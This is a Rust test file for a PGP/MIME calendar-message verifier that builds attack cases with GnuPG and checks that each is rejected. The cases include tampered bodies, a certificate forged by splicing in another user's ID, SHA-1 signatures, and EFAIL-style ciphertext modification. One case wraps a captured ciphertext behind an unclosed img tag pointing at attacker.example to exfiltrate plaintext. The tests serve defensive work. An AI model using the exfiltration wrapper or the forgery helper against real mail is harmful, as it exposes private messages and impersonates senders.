//! PGP/MIME (RFC 3156) end to end with GnuPG 2.2 as the other implementation: GnuPG makes the
//! keys, signs and encrypts; `imipsec verify` must accept exactly what the iMIP security model
//! allows and reject the rest with the same reason codes as S/MIME (issue #18).
//!
//! These tests need `gpg` (GnuPG 2.2, package `gnupg`) and fail without it: interop is the
//! truth here, a skipped interop test proves nothing.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::{ATTENDEE, ORGANIZER, STRANGER, calendar, calendar_entity, imipsec, with_headers};

/// The evaluation time (as in `common::AT`).
const AT: &str = "2026-06-01T00:00:00Z";
/// When GnuPG makes keys (`--faked-system-time`, frozen).
const KEY_TIME: &str = "20260101T000000!";
/// When GnuPG signs: ten minutes before the message's Date header.
const SIGN_TIME: &str = "20260531T235000!";

/// A throw-away GnuPG home with the keys of one test.
struct Gpg {
    home: tempfile::TempDir,
}

impl Drop for Gpg {
    fn drop(&mut self) {
        // The agent GnuPG started for this home dies with it.
        let _ = Command::new("gpgconf")
            .arg("--homedir")
            .arg(self.home.path())
            .args(["--kill", "gpg-agent"])
            .status();
    }
}

impl Gpg {
    fn new() -> Gpg {
        let home = tempfile::Builder::new()
            .prefix("gpg")
            .tempdir_in("/tmp")
            .unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
        }
        Gpg { home }
    }

    fn home(&self) -> &Path {
        self.home.path()
    }

    /// Run gpg; panics (the test fails) when gpg is missing or fails.
    fn run(&self, args: &[&str], stdin: &[u8]) -> Vec<u8> {
        let (success, stdout, stderr) = self.output(args, stdin);
        assert!(success, "gpg {args:?} failed: {stderr}");
        stdout
    }

    /// Run gpg: whether it succeeded, its output and its diagnostics.
    fn output(&self, args: &[&str], stdin: &[u8]) -> (bool, Vec<u8>, String) {
        let mut child = Command::new("gpg")
            .arg("--homedir")
            .arg(self.home.path())
            .args([
                "--batch",
                "--yes",
                "--pinentry-mode",
                "loopback",
                "--no-tty",
            ])
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("gpg (GnuPG 2.2, package gnupg) must be installed for the PGP/MIME tests");
        let mut input = child.stdin.take().unwrap();
        let stdin = stdin.to_vec();
        let writer = std::thread::spawn(move || {
            use std::io::Write;
            let _ = input.write_all(&stdin);
        });
        let output = child.wait_with_output().unwrap();
        writer.join().unwrap();
        (
            output.status.success(),
            output.stdout,
            String::from_utf8_lossy(&output.stderr).into_owned(),
        )
    }

    /// Make a key for `user_id` at `time` with `algorithm` (`ed25519`, `rsa2048`, ...) and
    /// an encryption subkey; `expire` as gpg takes it (`never`, `1y`). Returns the fingerprint.
    fn generate(&self, user_id: &str, algorithm: &str, expire: &str, time: &str) -> String {
        let passphrase = ["--passphrase", ""];
        let faked = ["--faked-system-time", time];
        let mut args = vec![];
        args.extend(faked);
        args.extend(passphrase);
        args.extend(["--quick-gen-key", user_id, algorithm, "sign,cert", expire]);
        self.run(&args, b"");
        let fingerprint = self.fingerprint(user_id);
        let encryption = if algorithm == "ed25519" {
            "cv25519"
        } else {
            algorithm
        };
        let mut args = vec![];
        args.extend(faked);
        args.extend(passphrase);
        args.extend(["--quick-add-key", &fingerprint, encryption, "encr", expire]);
        self.run(&args, b"");
        fingerprint
    }

    fn fingerprint(&self, user_id: &str) -> String {
        let listing = self.run(&["--with-colons", "--list-keys", user_id], b"");
        String::from_utf8(listing)
            .unwrap()
            .lines()
            .find_map(|line| line.strip_prefix("fpr:"))
            .map(|rest| rest.trim_matches(':').to_owned())
            .expect("a fingerprint")
    }

    /// `gpg --export --armor` into `dir/name.asc`.
    fn export(&self, selector: &str, dir: &Path, name: &str) -> PathBuf {
        let armored = self.run(&["--armor", "--export", selector], b"");
        assert!(!armored.is_empty(), "nothing exported for {selector}");
        let path = dir.join(format!("{name}.asc"));
        std::fs::write(&path, armored).unwrap();
        path
    }

    /// `gpg --export-secret-keys --armor` into `dir/name.key`.
    fn export_secret(&self, selector: &str, dir: &Path, name: &str, passphrase: &str) -> PathBuf {
        let armored = self.run(
            &[
                "--passphrase",
                passphrase,
                "--armor",
                "--export-secret-keys",
                selector,
            ],
            b"",
        );
        let path = dir.join(format!("{name}.key"));
        std::fs::write(&path, armored).unwrap();
        path
    }

    /// A detached, armored signature over `data` by `signer` with `digest` at `time`.
    fn detach_sign(&self, signer: &str, data: &[u8], digest: &str, time: &str) -> Vec<u8> {
        self.run(
            &[
                "--faked-system-time",
                time,
                "--passphrase",
                "",
                "--digest-algo",
                digest,
                "--local-user",
                signer,
                "--armor",
                "--detach-sign",
            ],
            data,
        )
    }

    /// Encrypt `data` to `recipient` (and sign it as `signer` in the same OpenPGP message,
    /// RFC 3156 §6.2, when given), armored.
    fn encrypt(&self, recipient: &str, signer: Option<&str>, data: &[u8]) -> Vec<u8> {
        let mut args = vec![
            "--faked-system-time",
            SIGN_TIME,
            "--passphrase",
            "",
            "--trust-model",
            "always",
            "--armor",
            "--recipient",
            recipient,
            "--encrypt",
        ];
        if let Some(signer) = signer {
            args.extend(["--local-user", signer, "--digest-algo", "SHA256", "--sign"]);
        }
        self.run(&args, data)
    }
}

/// A GnuPG home with the organizer's key (`algorithm`, no expiry, made at `KEY_TIME`), a
/// temporary folder, and the organizer's certificate exported into it.
fn organizer_key(algorithm: &str) -> (Gpg, tempfile::TempDir, PathBuf) {
    let gpg = Gpg::new();
    let dir = tempfile::tempdir().unwrap();
    gpg.generate(
        &format!("Organizer <{ORGANIZER}>"),
        algorithm,
        "never",
        KEY_TIME,
    );
    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
    (gpg, dir, certs)
}

/// RFC 3156 §5: `entity` (CRLF) signed by `signer`, as a multipart/signed body with its
/// Content-Type header.
fn pgp_signed(gpg: &Gpg, signer: &str, entity: &[u8], digest: &str, micalg: &str) -> Vec<u8> {
    let signature = gpg.detach_sign(signer, entity, digest, SIGN_TIME);
    multipart_signed(entity, &signature, micalg)
}

fn multipart_signed(entity: &[u8], signature: &[u8], micalg: &str) -> Vec<u8> {
    let mut out = format!(
        "Content-Type: multipart/signed; micalg={micalg};\r\n protocol=\"application/pgp-signature\"; boundary=\"pgp-sig\"\r\n\r\n\
         This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\r\n--pgp-sig\r\n"
    )
    .into_bytes();
    out.extend_from_slice(entity);
    out.extend_from_slice(
        b"\r\n--pgp-sig\r\nContent-Type: application/pgp-signature; name=\"signature.asc\"\r\n\
          Content-Description: OpenPGP digital signature\r\n\r\n",
    );
    out.extend_from_slice(&crlf(signature));
    out.extend_from_slice(b"\r\n--pgp-sig--\r\n");
    out
}

/// RFC 3156 §4: `armored` as a multipart/encrypted body with its Content-Type header.
fn multipart_encrypted(armored: &[u8]) -> Vec<u8> {
    let mut out = b"Content-Type: multipart/encrypted;\r\n protocol=\"application/pgp-encrypted\"; boundary=\"pgp-enc\"\r\n\r\n\
        This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n--pgp-enc\r\n\
        Content-Type: application/pgp-encrypted\r\nContent-Description: PGP/MIME version identification\r\n\r\n\
        Version: 1\r\n\r\n--pgp-enc\r\n\
        Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\
        Content-Description: OpenPGP encrypted message\r\n\
        Content-Disposition: inline; filename=\"encrypted.asc\"\r\n\r\n"
        .to_vec();
    out.extend_from_slice(&crlf(armored));
    out.extend_from_slice(b"\r\n--pgp-enc--\r\n");
    out
}

/// LF (as gpg writes armor) to CRLF.
fn crlf(text: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(text).replace("\r\n", "\n");
    text.trim_end_matches('\n')
        .replace('\n', "\r\n")
        .into_bytes()
}

fn request_entity() -> Vec<u8> {
    calendar_entity(&calendar("REQUEST", "pgp-1@example.com", 0), "REQUEST")
}

/// `imipsec verify --json --at AT` with `extra`; the parsed JSON and the exit status.
fn verify(message: &[u8], extra: &[&str]) -> (serde_json::Value, i32) {
    let mut args = vec!["verify", "--json", "--at", AT];
    args.extend_from_slice(extra);
    let run = imipsec(args, message);
    let json = serde_json::from_slice(&run.stdout)
        .unwrap_or_else(|_| panic!("no JSON (status {}): {}", run.status, run.stderr));
    (json, run.status)
}

fn reasons(json: &serde_json::Value) -> Vec<String> {
    json["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|reason| reason["code"].as_str().unwrap().to_owned())
        .collect()
}

fn assert_rejected(json: &serde_json::Value, status: i32, code: &str) {
    assert_eq!(status, 1, "{json:#}");
    assert_eq!(json["verdict"], "reject", "{json:#}");
    assert_eq!(
        reasons(json).first().map(String::as_str),
        Some(code),
        "{json:#}"
    );
}

/// Keys of the usual cast: the organizer, the attendee and Mallory (a stranger), ed25519.
struct Cast {
    gpg: Gpg,
    /// Holds `certs` (removed with the cast).
    _dir: tempfile::TempDir,
    certs: PathBuf,
}

impl Cast {
    fn new() -> Cast {
        let gpg = Gpg::new();
        let dir = tempfile::tempdir().unwrap();
        gpg.generate(
            &format!("Organizer <{ORGANIZER}>"),
            "ed25519",
            "never",
            KEY_TIME,
        );
        gpg.generate(
            &format!("Attendee <{ATTENDEE}>"),
            "ed25519",
            "never",
            KEY_TIME,
        );
        gpg.generate(
            &format!("Mallory <{STRANGER}>"),
            "ed25519",
            "never",
            KEY_TIME,
        );
        let certs = dir.path().join("certs");
        std::fs::create_dir(&certs).unwrap();
        gpg.export(ORGANIZER, &certs, "organizer");
        gpg.export(ATTENDEE, &certs, "attendee");
        Cast {
            gpg,
            _dir: dir,
            certs,
        }
    }

    fn certs(&self) -> &str {
        self.certs.to_str().unwrap()
    }
}

#[test]
fn a_gnupg_signed_request_by_the_organizer_is_accepted() {
    let cast = Cast::new();
    let body = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_eq!(status, 0, "{json:#}");
    assert_eq!(json["verdict"], "accept");
    let layer = &json["layers"][0];
    assert_eq!(layer["kind"], "pgp-signed", "{json:#}");
    assert_eq!(layer["status"], "verified");
    assert_eq!(layer["signers"][0]["emails"][0], ORGANIZER);
    assert_eq!(
        layer["signers"][0]["serial"].as_str().unwrap(),
        cast.gpg.fingerprint(ORGANIZER).to_ascii_lowercase()
    );
    assert_eq!(json["itip"][0]["role"], "organizer");
}

#[test]
fn a_bare_lf_stored_pgp_message_is_verified_in_canonical_form() {
    // mbox / Maildir store messages with LF line ends; RFC 3156 §5 signs the CRLF form.
    let cast = Cast::new();
    let body = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let stored = String::from_utf8(message).unwrap().replace("\r\n", "\n");
    let (json, status) = verify(stored.as_bytes(), &["--openpgp-certs", cast.certs()]);
    assert_eq!(status, 0, "{json:#}");
}

/// Attack: the calendar is changed after signing (a moved meeting).
#[test]
fn a_tampered_body_is_rejected() {
    let cast = Cast::new();
    let body = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let tampered = String::from_utf8(body).unwrap().replacen(
        "DTSTART:20260615T100000Z",
        "DTSTART:20260615T030000Z",
        1,
    );
    let message = with_headers(ORGANIZER, ATTENDEE, tampered.as_bytes());
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_rejected(&json, status, "bad-signature");
    assert_eq!(json["layers"][0]["status"], "signature-failed");
}

/// Attack: Mallory signs with a key the operator never vouched for.
#[test]
fn a_signer_not_among_the_operator_certificates_is_untrusted() {
    let cast = Cast::new();
    let body = pgp_signed(
        &cast.gpg,
        STRANGER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_rejected(&json, status, "untrusted-certificate");
}

/// Attack: Mallory's key is vouched for (it is a colleague's), but it is not the ORGANIZER's.
#[test]
fn a_trusted_signer_whose_user_id_is_not_the_organizer_is_not_correlated() {
    let cast = Cast::new();
    cast.gpg.export(STRANGER, &cast.certs, "mallory");
    let body = pgp_signed(
        &cast.gpg,
        STRANGER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_rejected(&json, status, "signer-not-correlated");
    assert_eq!(json["layers"][0]["status"], "verified");
}

/// Attack: a user ID added without the key's self-signature (anyone can append a User ID
/// packet to a certificate) is no identity.
#[test]
fn a_user_id_without_a_valid_self_signature_is_no_identity() {
    let cast = Cast::new();
    // Mallory's certificate, and a copy of the organizer's user ID packet with Mallory's
    // self-signature over *her* user ID: the signature does not cover the organizer's ID.
    let gpg = &cast.gpg;
    let mallory = gpg.run(&["--export", STRANGER], b"");
    let organizer = gpg.run(&["--export", ORGANIZER], b"");
    let forged = splice_user_id(&mallory, &organizer);
    std::fs::write(cast.certs.join("mallory.gpg"), forged).unwrap();
    let body = pgp_signed(gpg, STRANGER, &request_entity(), "SHA256", "pgp-sha256");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_rejected(&json, status, "signer-not-correlated");
    assert_eq!(
        json["layers"][0]["signers"][0]["emails"][0], STRANGER,
        "{json:#}"
    );
    assert!(
        !json["layers"][0]["signers"][0]["emails"]
            .as_array()
            .map(|emails| emails.iter().any(|email| email == ORGANIZER))
            .unwrap_or(false),
        "{json:#}"
    );
}

/// Binary OpenPGP packets (new or old format headers) of `bytes`: (tag, whole packet).
fn packets(mut bytes: &[u8]) -> Vec<(u8, Vec<u8>)> {
    let mut out = Vec::new();
    while let Some(&first) = bytes.first() {
        assert!(first & 0x80 != 0, "not a packet");
        let (tag, header, length) = if first & 0x40 != 0 {
            let tag = first & 0x3f;
            match bytes[1] {
                octet @ 0..192 => (tag, 2, usize::from(octet)),
                octet @ 192..224 => (
                    tag,
                    3,
                    ((usize::from(octet) - 192) << 8) + usize::from(bytes[2]) + 192,
                ),
                255 => (
                    tag,
                    6,
                    u32::from_be_bytes([bytes[2], bytes[3], bytes[4], bytes[5]]) as usize,
                ),
                _ => panic!("partial lengths do not occur in certificates"),
            }
        } else {
            let tag = (first >> 2) & 0x0f;
            match first & 3 {
                0 => (tag, 2, usize::from(bytes[1])),
                1 => (
                    tag,
                    3,
                    usize::from(u16::from_be_bytes([bytes[1], bytes[2]])),
                ),
                2 => (
                    tag,
                    5,
                    u32::from_be_bytes([bytes[1], bytes[2], bytes[3], bytes[4]]) as usize,
                ),
                _ => panic!("indeterminate length"),
            }
        };
        out.push((tag, bytes[..header + length].to_vec()));
        bytes = &bytes[header + length..];
    }
    out
}

/// `target`'s packets with `donor`'s first User ID packet (tag 13) inserted after `target`'s
/// own User ID and its signatures, followed by the first signature after `target`'s user ID
/// (Mallory's self-signature, which covers her user ID, not the inserted one).
fn splice_user_id(target: &[u8], donor: &[u8]) -> Vec<u8> {
    let donor_uid = packets(donor)
        .into_iter()
        .find(|(tag, _)| *tag == 13)
        .unwrap()
        .1;
    let target_packets = packets(target);
    let uid_at = target_packets
        .iter()
        .position(|(tag, _)| *tag == 13)
        .unwrap();
    let self_signature = target_packets[uid_at + 1].1.clone();
    let mut out = Vec::new();
    for (index, (_, packet)) in target_packets.iter().enumerate() {
        out.extend_from_slice(packet);
        if index == uid_at + 1 {
            out.extend_from_slice(&donor_uid);
            out.extend_from_slice(&self_signature);
        }
    }
    out
}

#[test]
fn an_expired_key_is_rejected() {
    let gpg = Gpg::new();
    let dir = tempfile::tempdir().unwrap();
    // Made 2025-01-01, valid one year: expired at the evaluation time (2026-06-01).
    gpg.generate(
        &format!("Organizer <{ORGANIZER}>"),
        "ed25519",
        "1y",
        "20250101T000000!",
    );
    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
    let signature = gpg.detach_sign(ORGANIZER, &request_entity(), "SHA256", "20250601T000000!");
    let body = multipart_signed(&request_entity(), &signature, "pgp-sha256");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", certs.to_str().unwrap()]);
    assert_rejected(&json, status, "certificate-expired");
}

#[test]
fn a_revoked_key_is_rejected() {
    let cast = Cast::new();
    let fingerprint = cast.gpg.fingerprint(ORGANIZER);
    let body = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    // The revocation certificate GnuPG made with the key, imported: the key is revoked.
    let revocation = std::fs::read_to_string(
        cast.gpg
            .home()
            .join("openpgp-revocs.d")
            .join(format!("{fingerprint}.rev")),
    )
    .unwrap()
    .replace(":-----BEGIN", "-----BEGIN");
    cast.gpg.run(
        &["--faked-system-time", "20260301T000000!", "--import"],
        revocation.as_bytes(),
    );
    cast.gpg.export(ORGANIZER, &cast.certs, "organizer");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_rejected(&json, status, "certificate-revoked");
}

/// Attack: SHA-1 (chosen-prefix collisions, "SHA-1 is a Shambles", 2020).
#[test]
fn a_sha1_signature_is_rejected() {
    let (gpg, _dir, certs) = organizer_key("rsa2048");
    let body = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA1", "pgp-sha1");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let certs = certs.to_str().unwrap();
    let (json, status) = verify(&message, &["--openpgp-certs", certs]);
    assert_rejected(&json, status, "weak-algorithm");
    // The same RSA key with SHA-256 is accepted: the hash was the reason.
    let body = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA256", "pgp-sha256");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", certs]);
    assert_eq!(status, 0, "{json:#}");
}

/// `[policy] danger_allow_sha1` is the one escape hatch, for OpenPGP as for S/MIME.
#[test]
fn danger_allow_sha1_accepts_a_sha1_openpgp_signature() {
    let (gpg, dir, certs) = organizer_key("rsa2048");
    let body = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA1", "pgp-sha1");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let config = dir.path().join("imipsec.toml");
    std::fs::write(&config, "[policy]\ndanger_allow_sha1 = true\n").unwrap();
    let (json, status) = verify(
        &message,
        &[
            "--openpgp-certs",
            certs.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
        ],
    );
    assert_eq!(status, 0, "{json:#}");
}

/// RSA under 2048 bits signs nothing a gate accepts (the S/MIME minimum, `min_rsa_bits`).
#[test]
fn an_rsa_1024_key_is_weak() {
    let (gpg, _dir, certs) = organizer_key("rsa1024");
    let body = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA256", "pgp-sha256");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", certs.to_str().unwrap()]);
    assert_rejected(&json, status, "weak-algorithm");
}

/// RFC 3156 §5: micalg must name the hash of the signature.
#[test]
fn a_micalg_that_does_not_name_the_signature_hash_is_rejected() {
    let cast = Cast::new();
    let body = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha512",
    );
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_rejected(&json, status, "bad-signature");
}

/// Attack: a signed harmless part beside an unsigned calendar (the wrapping attacks of
/// "Johnny, you are fired", USENIX Security 2019).
#[test]
fn a_calendar_outside_the_pgp_signed_part_is_rejected() {
    let cast = Cast::new();
    let text = b"Content-Type: text/plain; charset=utf-8\r\n\r\nSee you there.\r\n";
    let signed = pgp_signed(&cast.gpg, ORGANIZER, text, "SHA256", "pgp-sha256");
    let mut body = b"Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\n".to_vec();
    body.extend_from_slice(&signed);
    body.extend_from_slice(b"\r\n--outer\r\n");
    body.extend_from_slice(&request_entity());
    body.extend_from_slice(b"\r\n--outer--\r\n");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_rejected(&json, status, "unprotected-calendar");
}

/// Without any OpenPGP certificate a PGP/MIME signature proves nothing.
#[test]
fn without_openpgp_certificates_a_pgp_signature_is_untrusted() {
    let cast = Cast::new();
    let body = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let root = common::root_ca();
    let (json, status) = verify(&message, &["--trust", root.to_str().unwrap()]);
    assert_rejected(&json, status, "untrusted-certificate");
}

/// `gpg --enarmor` output as an OpenPGP message armor without checksum (RFC 9580 §6.2 makes
/// it optional), so that a changed binary message still has valid armor.
fn armor_message(binary: &[u8], gpg: &Gpg) -> Vec<u8> {
    let armored = String::from_utf8(gpg.run(&["--enarmor"], binary)).unwrap();
    let base64: Vec<&str> = armored
        .lines()
        .skip_while(|line| !line.is_empty())
        .skip(1)
        .take_while(|line| !line.starts_with('=') && !line.starts_with("-----"))
        .collect();
    format!(
        "-----BEGIN PGP MESSAGE-----\n\n{}\n-----END PGP MESSAGE-----\n",
        base64.join("\n")
    )
    .into_bytes()
}

/// The attendee's decryption key, exported from GnuPG.
fn attendee_key(cast: &Cast) -> PathBuf {
    cast.gpg
        .export_secret(ATTENDEE, cast._dir.path(), "attendee", "")
}

fn decrypting(cast: &Cast, key: &Path, message: &[u8]) -> (serde_json::Value, i32) {
    verify(
        message,
        &[
            "--openpgp-certs",
            cast.certs(),
            "--openpgp-identity",
            key.to_str().unwrap(),
        ],
    )
}

/// RFC 3156 §6.1: sign (PGP/MIME), then encrypt the signed entity.
#[test]
fn a_signed_then_encrypted_request_is_decrypted_and_accepted() {
    let cast = Cast::new();
    let signed = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let encrypted = cast.gpg.encrypt(ATTENDEE, None, &signed);
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_eq!(status, 0, "{json:#}");
    let layers = json["layers"].as_array().unwrap();
    assert_eq!(layers[0]["kind"], "pgp-encrypted", "{json:#}");
    assert_eq!(layers[0]["status"], "decrypted");
    assert_eq!(layers[0]["authenticated"], true);
    assert_eq!(layers[1]["kind"], "pgp-signed");
    assert_eq!(layers[1]["status"], "verified");
    assert_eq!(layers[1]["signers"][0]["emails"][0], ORGANIZER);
}

/// RFC 3156 §6.2: signed and encrypted in one OpenPGP message (`gpg --sign --encrypt`).
#[test]
fn a_signed_and_encrypted_openpgp_message_is_accepted() {
    let cast = Cast::new();
    let encrypted = cast
        .gpg
        .encrypt(ATTENDEE, Some(ORGANIZER), &request_entity());
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_eq!(status, 0, "{json:#}");
    let layers = json["layers"].as_array().unwrap();
    assert_eq!(layers[0]["kind"], "pgp-encrypted", "{json:#}");
    assert_eq!(layers[1]["kind"], "pgp-signed");
    assert_eq!(layers[1]["status"], "verified");
    assert_eq!(layers[1]["signers"][0]["emails"][0], ORGANIZER);
}

/// §6.2 signed by someone the operator does not vouch for: the signature layer fails.
#[test]
fn a_signed_and_encrypted_message_by_an_unknown_signer_is_rejected() {
    let cast = Cast::new();
    let encrypted = cast
        .gpg
        .encrypt(ATTENDEE, Some(STRANGER), &request_entity());
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_rejected(&json, status, "untrusted-certificate");
}

/// Encryption alone authenticates nobody.
#[test]
fn an_encrypted_but_unsigned_request_is_unsigned() {
    let cast = Cast::new();
    let encrypted = cast.gpg.encrypt(ATTENDEE, None, &request_entity());
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_rejected(&json, status, "unsigned");
    assert_eq!(json["layers"][0]["status"], "decrypted", "{json:#}");
}

/// Attack (EFAIL, CFB gadgets): a modified ciphertext must not yield plaintext; the MDC
/// fails and the layer is one uniform decryption failure.
#[test]
fn a_modified_ciphertext_fails_the_integrity_check() {
    let cast = Cast::new();
    let signed = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let mut binary = cast.gpg.run(
        &[
            "--trust-model",
            "always",
            "--compress-algo",
            "none",
            "--recipient",
            ATTENDEE,
            "--encrypt",
        ],
        &signed,
    );
    // A byte in the middle of the encrypted data packet (the last packet).
    let at = binary.len() - 200;
    binary[at] ^= 0x01;
    let armored = armor_message(&binary, &cast.gpg);
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&armored));
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_rejected(&json, status, "decryption-failed");
    assert_eq!(json["layers"][0]["status"], "not-decrypted", "{json:#}");
    assert_eq!(json["layers"].as_array().unwrap().len(), 1, "{json:#}");
    // The unmodified message (same armor path) decrypts: the byte was the reason.
    binary[at] ^= 0x01;
    let armored = armor_message(&binary, &cast.gpg);
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&armored));
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_eq!(status, 0, "{json:#}");
}

/// Attack (EFAIL direct exfiltration): a captured ciphertext wrapped into attacker MIME is
/// not decrypted.
#[test]
fn an_encrypted_part_that_is_not_the_root_is_not_decrypted() {
    let cast = Cast::new();
    let signed = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let encrypted = cast.gpg.encrypt(ATTENDEE, None, &signed);
    let mut body = b"Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\n\
        Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\n"
        .to_vec();
    body.extend_from_slice(&multipart_encrypted(&encrypted));
    body.extend_from_slice(b"\r\n--outer--\r\n");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_eq!(status, 1, "{json:#}");
    assert!(
        reasons(&json).contains(&"decryption-failed".to_owned()),
        "{json:#}"
    );
    assert_eq!(json["layers"][0]["status"], "not-decrypted", "{json:#}");
}

#[test]
fn a_message_for_someone_else_is_not_decrypted() {
    let cast = Cast::new();
    let encrypted = cast
        .gpg
        .encrypt(STRANGER, Some(ORGANIZER), &request_entity());
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_rejected(&json, status, "decryption-failed");
}

/// The password of an OpenPGP identity comes from the same flags as an S/MIME identity's.
#[test]
fn a_protected_openpgp_identity_is_unlocked_with_the_identity_password() {
    let gpg = Gpg::new();
    let dir = tempfile::tempdir().unwrap();
    gpg.generate(
        &format!("Organizer <{ORGANIZER}>"),
        "ed25519",
        "never",
        KEY_TIME,
    );
    gpg.run(
        &[
            "--faked-system-time",
            KEY_TIME,
            "--passphrase",
            "correct horse",
            "--quick-gen-key",
            &format!("Attendee <{ATTENDEE}>"),
            "ed25519",
            "sign,cert",
            "never",
        ],
        b"",
    );
    let attendee = gpg.fingerprint(ATTENDEE);
    gpg.run(
        &[
            "--faked-system-time",
            KEY_TIME,
            "--passphrase",
            "correct horse",
            "--quick-add-key",
            &attendee,
            "cv25519",
            "encr",
            "never",
        ],
        b"",
    );
    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
    let key = gpg.export_secret(ATTENDEE, dir.path(), "attendee", "correct horse");
    let encrypted = gpg.encrypt(ATTENDEE, Some(ORGANIZER), &request_entity());
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
    let password = dir.path().join("password");
    std::fs::write(&password, "correct horse\n").unwrap();
    let args = |password: &Path| {
        vec![
            "verify".to_owned(),
            "--json".to_owned(),
            "--at".to_owned(),
            AT.to_owned(),
            "--openpgp-certs".to_owned(),
            certs.display().to_string(),
            "--openpgp-identity".to_owned(),
            key.display().to_string(),
            "--password-file".to_owned(),
            password.display().to_string(),
        ]
    };
    let run = imipsec(args(&password), &message);
    assert_eq!(
        run.status,
        0,
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        run.stderr
    );
    // A wrong password is a configuration error (exit 2), not a silent decryption failure.
    let wrong = dir.path().join("wrong");
    std::fs::write(&wrong, "battery staple\n").unwrap();
    let run = imipsec(args(&wrong), &message);
    assert_eq!(run.status, 2, "{}", run.stderr);
    assert!(run.stderr.contains("password"), "{}", run.stderr);
}

/// Attack (EFAIL): Symmetrically Encrypted Data without integrity protection (tag 9, what
/// `gpg --rfc2440` still writes) is malleable: refused, while the same key and content under
/// SEIPD (with MDC) decrypts.
#[test]
fn encryption_without_integrity_protection_is_refused() {
    let gpg = Gpg::new();
